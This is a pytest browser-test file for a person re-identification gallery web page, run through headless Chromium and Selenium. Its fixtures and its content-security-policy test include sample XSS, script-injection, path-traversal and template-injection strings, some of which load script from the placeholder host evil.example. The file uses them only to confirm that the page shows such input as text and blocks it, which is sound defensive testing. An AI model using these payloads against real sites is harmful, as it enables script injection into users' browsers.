"""The page in a real browser without a screen: what people do, and what must not happen meanwhile."""

from __future__ import annotations

import csv
import json
import shutil
import threading
import time
from pathlib import Path

import pytest
from asked_people import asked_gallery
from PIL import Image
from plain_people import HOSTILE, Blind, StandIn, crop, make_gallery

from san_tf.page.answers import SamePerson
from san_tf.page.app import build_app
from san_tf.page.guard import Access
from san_tf.page.server import address_of, build_server, listen
from san_tf.page.service import PageService
from san_tf.retrieval.entries import Entry

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
DRIVER = shutil.which("chromedriver")
if not (CHROMIUM and DRIVER):
    pytest.skip("no chromium and chromedriver; Debian: apt install chromium-driver", allow_module_level=True)
webdriver = pytest.importorskip("selenium.webdriver", reason="Chromium is driven by selenium")

from selenium.webdriver.chrome.service import Service  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402

# Tags and a key that would be markup, scripts and addresses if the page let them.
EVIL = tuple(
    Entry(key, "0001_c1.png", 5, 0.0, 3, (f"{tag}{HOSTILE}",))
    for key, tag in (
        ("<script>hacked=2</script>", "<svg/onload=hacked=3>"),
        ("javascript:hacked=4//", "</ol><script/src=//evil.example/x.js></script>"),
        ("../secret.png?#&key=x%00", "{{7*7}}"),
    )
)


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    downloads = tmp_path_factory.mktemp("downloads")
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    # Nothing but this machine can be reached, so a request that leaves it fails, and is in the log.
    for flag in (
        "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
        "--window-size=1280,900", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        "--disable-background-networking",
    ):  # fmt: skip
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    driver = webdriver.Chrome(options=options, service=Service(DRIVER))
    driver.execute_cdp_cmd(
        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(downloads)}
    )
    driver.downloads = downloads
    yield driver
    driver.quit()


def _serving(service: PageService, access: Access | None = None, asking: SamePerson | None = None):
    server = listen("127.0.0.1", 0)
    running = build_server(
        build_app(service, upload_bytes=50_000, access=access, asking=asking), lambda: None
    )
    thread = threading.Thread(target=running.run, kwargs={"sockets": [server]}, daemon=True)
    thread.start()
    yield address_of(server, "127.0.0.1")
    running.should_exit = True
    thread.join(10)
    server.close()


@pytest.fixture(scope="module")
def address(folder):
    yield from _serving(PageService(make_gallery(folder, EVIL), StandIn(), f"people {HOSTILE}"))


@pytest.fixture
def page(browser, address):
    browser.get("about:blank")
    for kind in ("browser", "performance"):
        browser.get_log(kind)
    browser.get(address)
    _until(browser, "document.querySelectorAll('.card').length == 13")
    yield browser
    _nothing_happened(browser, address)


def _until(browser, condition: str, seconds: float = 15.0) -> None:
    deadline = time.monotonic() + seconds
    while not browser.execute_script(f"return {condition}"):
        assert time.monotonic() < deadline, (condition, browser.get_log("browser"))
        time.sleep(0.03)


def _nothing_happened(browser, address: str) -> None:
    """No script but the page's ran, nothing left the machine, and the browser complains of nothing."""
    assert browser.execute_script("return typeof hacked") == "undefined"
    assert browser.execute_script("return document.querySelectorAll('script').length") == 1
    asked = []
    for line in browser.get_log("performance"):
        message = json.loads(line["message"])["message"]
        if message["method"] == "Network.requestWillBeSent":
            asked.append(message["params"]["request"]["url"])
    # The browser draws its own calendar sign from a `data:` address.
    assert [url for url in asked if not url.startswith((address, f"blob:{address}", "data:"))] == []
    assert address in asked
    complaints = [line["message"] for line in browser.get_log("browser") if line["level"] != "INFO"]
    assert [line for line in complaints if "the server responded with a status of" not in line] == []


def _keys(browser) -> list[str]:
    return browser.execute_script(
        "return [...document.querySelectorAll('.card')].map(card => card.dataset.key)"
    )


def _text(browser, name: str) -> str:
    return browser.find_element(By.ID, name).text


def _drop(browser, path: Path) -> None:
    """Drop a file as the system would."""
    data = {"items": [], "files": [str(path)], "dragOperationsMask": 1}
    for kind in ("dragEnter", "dragOver", "drop"):
        event = {"type": kind, "x": 700, "y": 500, "data": data}
        browser.execute_cdp_cmd("Input.dispatchDragEvent", event)


def _press(browser, *keys: str) -> None:
    webdriver.ActionChains(browser).send_keys(*keys).perform()


@pytest.fixture
def dropped(page, tmp_path):
    path = tmp_path / "0002_c1s1_000001_00.png"
    path.write_bytes(crop(2, 4))
    _drop(page, path)
    _until(page, "document.querySelectorAll('.card .rank').length == 13")
    return page


def test_a_dropped_crop_is_ranked_with_marks_and_textures(dropped):
    assert _keys(dropped)[:3] == ["0002_c1.png", "0002_c2.png", "0002_c3.png"]
    # Identity and camera were in the file's name.
    assert dropped.find_element(By.ID, "pid").get_attribute("value") == "2"
    assert "3 of 13 right · the first at rank 1" in _text(dropped, "subtitle")
    cards = dropped.find_elements(By.CSS_SELECTOR, ".card")
    marks = ["right" in card.get_attribute("class").split() for card in cards]
    assert marks == [True] * 3 + [False] * 10
    assert len(dropped.find_elements(By.CSS_SELECTOR, ".card .mark.wrong")) == 9  # of one it is not known
    _until(dropped, "document.getElementById('query-texture').naturalWidth == 16")
    _until(dropped, "document.querySelector('.card .painted img').naturalWidth == 16")
    assert dropped.find_element(By.ID, "query-picture").get_attribute("src").startswith("blob:")


def test_filters(dropped):
    box = dropped.find_element(By.CSS_SELECTOR, "#cameras input[value='2']")
    dropped.execute_script("arguments[0].click()", box)
    _until(dropped, "document.querySelectorAll('.card').length == 3")
    assert _keys(dropped)[0] == "0002_c2.png"
    assert set(_keys(dropped)) == {"0002_c2.png", "0001_c2.png", "0003_c2.png"}
    assert _text(dropped, "active") == "1"
    dropped.find_element(By.ID, "clear").click()
    _until(dropped, "document.querySelectorAll('.card').length == 13")
    dropped.execute_script("document.getElementById('others').click()")  # not the query's own camera, 1
    _until(dropped, "document.querySelectorAll('.card').length == 10")
    assert not [key for key in _keys(dropped) if key.endswith("_c1.png")]
    since = dropped.find_element(By.ID, "since")
    # Of the second camera: 1,780,003,600 s are 2026-05-28 21:26:40 UTC.
    dropped.execute_script(
        "arguments[0].value = '2026-05-28T21:26:41'; arguments[0].dispatchEvent(new Event('change'))", since
    )
    _until(dropped, "document.querySelectorAll('.card').length == 3")
    assert all(key.endswith("_c3.png") for key in _keys(dropped))
    dropped.execute_script("document.querySelector('#tags input[value=day]').click()")
    _until(dropped, "document.querySelectorAll('.card').length == 0")
    assert _text(dropped, "empty") == "Nothing in the gallery passes these filters."


def test_the_keyboard_is_enough(page):
    _press(page, Keys.ARROW_RIGHT, Keys.ARROW_RIGHT)
    assert page.execute_script("return document.activeElement.dataset.key") == _keys(page)[1]
    chosen = _keys(page)[1]
    _press(page, "q")
    _until(page, "document.querySelectorAll('.card .rank').length == 12")
    assert chosen not in _keys(page) and chosen in _text(page, "query-name")
    _press(page, "3")
    _until(page, "document.getElementById('detail').open")
    assert _text(page, "detail-title").startswith("Rank 3")
    _until(page, "document.getElementById('right-texture').naturalWidth == 16")
    _press(page, Keys.ARROW_LEFT)
    assert _text(page, "detail-title").startswith("Rank 2")
    second = _keys(page)[1]
    _press(page, "q")
    _until(page, f"document.getElementById('query-name').textContent == {json.dumps(second)}")
    page.back()
    _until(page, f"document.getElementById('query-name').textContent == {json.dumps(chosen)}")
    _press(page, "r")
    _until(page, "document.getElementById('subtitle').textContent.startsWith('re-ranked')")
    _press(page, "t")
    _until(page, "!document.getElementById('cards').classList.contains('textured')")
    _press(page, "g")
    _until(page, "document.querySelectorAll('.card.plain').length == 13")
    _press(page, "?")
    _until(page, "document.getElementById('keys-dialog').open")
    _press(page, Keys.ESCAPE)
    _until(page, "!document.getElementById('keys-dialog').open")
    theme = page.execute_script("return document.documentElement.dataset.theme")
    _press(page, "d")
    assert page.execute_script("return document.documentElement.dataset.theme") != theme


def test_export(dropped):
    names = {"csv": "ranked.csv", "json": "ranked.json", "png": "ranked.png"}
    for kind, name in names.items():
        dropped.find_element(By.CSS_SELECTOR, f"[data-export={kind}]").click()
        deadline = time.monotonic() + 15
        while not (dropped.downloads / name).is_file():
            assert time.monotonic() < deadline, kind
            time.sleep(0.05)
    time.sleep(0.2)
    with (dropped.downloads / "ranked.csv").open(newline="") as file:
        assert [row["key"] for row in csv.DictReader(file)] == _keys(dropped)
    exported = json.loads((dropped.downloads / "ranked.json").read_text())
    assert [hit["key"] for hit in exported["hits"]] == _keys(dropped) and exported["pid"] == 2
    assert Image.open(dropped.downloads / "ranked.png").width > 800


def test_hostile_names_are_shown_and_not_run(page):
    shown = page.execute_script("return document.body.textContent")
    for entry in EVIL:
        assert entry.tags[0] in shown
    assert f"people {HOSTILE}" in _text(page, "name")
    for entry in EVIL:
        card = page.execute_script(
            "return [...document.querySelectorAll('.card')].find(c => c.dataset.key == arguments[0])",
            entry.key,
        )
        card.click()
        _until(page, f"document.getElementById('query-name').textContent == {json.dumps(entry.key)}")
        _press(page, "1")
        _until(page, "document.getElementById('detail').open")
        _press(page, Keys.ESCAPE, "g")
        _until(page, "document.querySelectorAll('.card.plain').length == 13")


def test_the_policy_stops_markup_and_scripts(browser, address):
    # What a mistake in the page's own code could do at worst.
    browser.get(address)
    _until(browser, "document.querySelectorAll('.card').length == 13")
    refused = browser.execute_script("""
        const refused = [];
        const script = document.createElement('script');
        const attempts = [
            () => { document.body.innerHTML += '<img src=x onerror=hacked=1>'; },
            () => { script.textContent = 'hacked=1'; },
            () => { script.src = 'http://evil.example/x.js'; },
        ];
        for (const attempt of attempts) try { attempt(); } catch (error) { refused.push(error.name); }
        return refused;
    """)
    assert refused == ["TypeError"] * 3
    wanted = browser.execute_async_script("""
        const done = arguments[arguments.length - 1], refused = [];
        const note = (event) => refused.push(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', note);
        const make = (name, values) => Object.assign(document.createElement(name), values);
        const add = (name, values) => document.body.append(make(name, values));
        add('img', {src: 'http://evil.example/x.png'});
        add('iframe', {src: 'http://127.0.0.1:9/'});
        add('style', {textContent: 'body { background: red }'});
        fetch('http://evil.example/').catch(() => setTimeout(() => done(refused), 100));
    """)
    assert sorted(wanted) == ["connect-src", "frame-src", "img-src", "style-src-elem"]
    assert browser.execute_script("return typeof hacked") == "undefined"
    browser.get_log("browser")


def test_a_file_that_is_no_picture_is_told_and_the_page_goes_on(page, tmp_path):
    for name, content, told in (
        (
            "list.jpg",
            b"a shopping list",
            "The picture is not an image in a supported format, or is damaged.",
        ),
        (
            "cut.jpg",
            crop(1, size=(200, 400), kind="JPEG")[:1800],
            "The picture is damaged: it cannot be decoded.",
        ),
        ("large.png", b"x" * 60_000, "large.png has more than 0 MB; choose a smaller file."),
    ):
        (tmp_path / name).write_bytes(content)
        page.find_element(By.ID, "file").send_keys(str(tmp_path / name))
        _until(page, f"document.getElementById('error').textContent == {json.dumps(told)}")
        assert len(_keys(page)) == 13
    (tmp_path / "fine.png").write_bytes(crop(3))
    page.find_element(By.ID, "file").send_keys(str(tmp_path / "fine.png"))
    _until(page, "document.querySelectorAll('.card .rank').length == 13")
    assert not page.find_element(By.ID, "error").is_displayed()
    assert "no marks" in _text(page, "subtitle")  # nobody said who it is
    page.find_element(By.ID, "pid").send_keys("3", Keys.ENTER)
    _until(page, "document.querySelectorAll('.card .mark.right').length == 6")


@pytest.mark.parametrize("width", [400, 1280])
def test_nothing_is_wider_than_the_window(dropped, width):
    size = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": False}
    dropped.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
    try:
        assert dropped.execute_script("return document.documentElement.scrollWidth <= innerWidth")
        _press(dropped, "1")
        _until(dropped, "document.getElementById('detail').open")
        assert dropped.execute_script(
            "const box = document.getElementById('detail').getBoundingClientRect(); "
            "return box.left >= 0 && box.right <= innerWidth && box.bottom <= innerHeight"
        )
    finally:
        dropped.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_an_encoder_without_decoder(browser, folder):
    serving = _serving(PageService(make_gallery(folder), Blind(), "people"))
    address = next(serving)
    browser.get(address)
    _until(browser, "document.querySelectorAll('.card').length == 10")
    assert "paints no textures" in _text(browser, "no-textures")
    browser.find_element(By.CSS_SELECTOR, ".card").click()
    _until(browser, "document.querySelectorAll('.card .rank').length == 9")
    assert not browser.find_element(By.ID, "query-texture").is_displayed()
    assert not browser.find_element(By.ID, "textures-box").is_displayed()
    browser.find_element(By.CSS_SELECTOR, ".card").click()
    _until(browser, "document.getElementById('detail').open")
    assert not browser.find_element(By.ID, "left-texture").is_displayed()
    # And when the program behind it is gone, the page says so.
    next(serving, None)
    _press(browser, Keys.ESCAPE, "g")
    _until(browser, "document.getElementById('error').textContent.includes('does not answer')")


@pytest.fixture
def asked(browser, tmp_path):
    """The page of a gallery that asks, and its file of answers."""
    images = tmp_path / "images"
    images.mkdir()
    service = PageService(asked_gallery(images), StandIn(), "people")
    asking = SamePerson(service, tmp_path / "answers.csv")
    asking.pairs(1)  # the first time compiles
    serving = _serving(service, Access(answers=True), asking)
    address = next(serving)
    browser.get("about:blank")
    for kind in ("browser", "performance"):
        browser.get_log(kind)
    browser.get(address)
    _until(browser, "!document.getElementById('ask').hidden")
    _until(browser, "document.querySelectorAll('.card').length == 48")
    yield browser, tmp_path / "answers.csv"
    _nothing_happened(browser, address)
    next(serving, None)


def _lines(path: Path) -> list[list[str]]:
    with path.open(newline="") as file:
        return [row[:3] for row in csv.reader(file)][1:]


def _shown(browser) -> list[str]:
    _until(browser, "document.getElementById('same-first').naturalWidth == 32")
    return [
        browser.find_element(By.ID, f"same-{side}").get_attribute("title") for side in ("first", "second")
    ]


def test_a_person_answers_by_keyboard_and_mouse_and_takes_back(asked):
    page, path = asked
    _press(page, "p")
    _until(page, "!document.getElementById('same-ask').hidden && document.getElementById('same-first').alt")
    assert page.execute_script("return document.activeElement.id") == "same"
    assert not page.find_element(By.ID, "main").is_displayed()
    assert page.find_element(By.ID, "same-what").get_attribute("open")
    assert "answers.csv" in _text(page, "same-what") and "20 more of the same person" in _text(
        page, "same-needed"
    )
    assert not page.find_element(By.ID, "same-undo").is_enabled()
    first = _shown(page)
    assert page.find_element(By.ID, "same-first").get_attribute("alt").startswith("First picture, camera ")
    # The name, which says who it is, is not written beside the picture.
    assert first[0] not in page.find_element(By.TAG_NAME, "body").text
    _press(page, "y")
    _until(page, "document.getElementById('same-count').textContent == '1 answered · 1 same'")
    second = _shown(page)
    assert second != first and _lines(path) == [[*first, "yes"]]
    page.find_element(By.CSS_SELECTOR, "[data-answer=no]").click()
    _until(page, "document.getElementById('same-count').textContent == '2 answered · 1 same · 1 different'")
    third = _shown(page)
    _press(page, "c")
    _until(page, "document.getElementById('same-count').textContent.endsWith('1 cannot tell')")
    assert _lines(path) == [[*first, "yes"], [*second, "no"], [*third, "cannot tell"]]
    _press(page, "u")
    _until(page, "document.getElementById('same-why').textContent == 'You had said: Cannot tell.'")
    assert _shown(page) == third and len(_lines(path)) == 2
    page.find_element(By.ID, "same-undo").click()
    _until(page, "document.getElementById('same-why').textContent == 'You had said: Different people.'")
    assert _shown(page) == second and _lines(path) == [[*first, "yes"]]
    # A key that is held down answers once.
    page.execute_script(
        "for (const repeat of [false, true, true]) document.body.dispatchEvent("
        "new KeyboardEvent('keydown', {key: 'n', bubbles: true, repeat}))"
    )
    _until(page, "document.getElementById('same-count').textContent == '2 answered · 1 same · 1 different'")
    _press(page, "g")
    _until(page, "!document.getElementById('columns').hidden && document.getElementById('same').hidden")
    _press(page, "y", "n")
    assert len(_lines(path)) == 2
    page.back()
    _until(page, "!document.getElementById('same').hidden")
    assert _shown(page) == third
    # What the server refuses is told, and the pair stays; what it no longer holds is passed over.
    path.write_text("first,second,same\n")
    _press(page, "u")
    _until(page, "document.getElementById('same-error').textContent.includes('that answer stays')")
    assert _shown(page) == third


def test_all_pairs_of_a_turn_lead_to_new_ones(asked):
    page, path = asked
    page.get(page.current_url + "#same")
    page.refresh()
    _until(page, "!document.getElementById('same').hidden && document.getElementById('same-first').alt")
    for number in range(12):
        keys = _shown(page)
        _press(page, "y" if keys[0][:4] == keys[1][:4] else "n")
        _until(page, f"document.getElementById('same-count').textContent.startsWith('{number + 1} answered')")
        both = "document.getElementById('same-first').title + document.getElementById('same-second').title"
        _until(page, f"{both} != {json.dumps(''.join(keys))}")
    assert len({frozenset(line[:2]) for line in _lines(path)}) == 12


@pytest.mark.parametrize("width", [360, 1280])
def test_the_question_fits_the_window(asked, width):
    page, _ = asked
    size = {"width": width, "height": 760, "deviceScaleFactor": 1, "mobile": False}
    page.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
    try:
        _press(page, "p")
        _until(page, "!document.getElementById('same').hidden && document.getElementById('same-first').alt")
        _shown(page)
        assert page.execute_script("return document.documentElement.scrollWidth <= innerWidth")
        # Both pictures and all answers are seen without scrolling.
        assert page.execute_script(
            "return [...document.querySelectorAll('.same .crop, .answers button')].every((each) => "
            "{ const box = each.getBoundingClientRect(); return box.width > 60 && box.top >= 0 && "
            "box.bottom <= innerHeight && box.right <= innerWidth; })"
        )
    finally:
        page.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_a_page_without_a_file_for_answers_does_not_ask(page):
    assert not page.find_element(By.ID, "ask").is_displayed()
    _press(page, "p")
    assert not page.find_element(By.ID, "same").is_displayed()
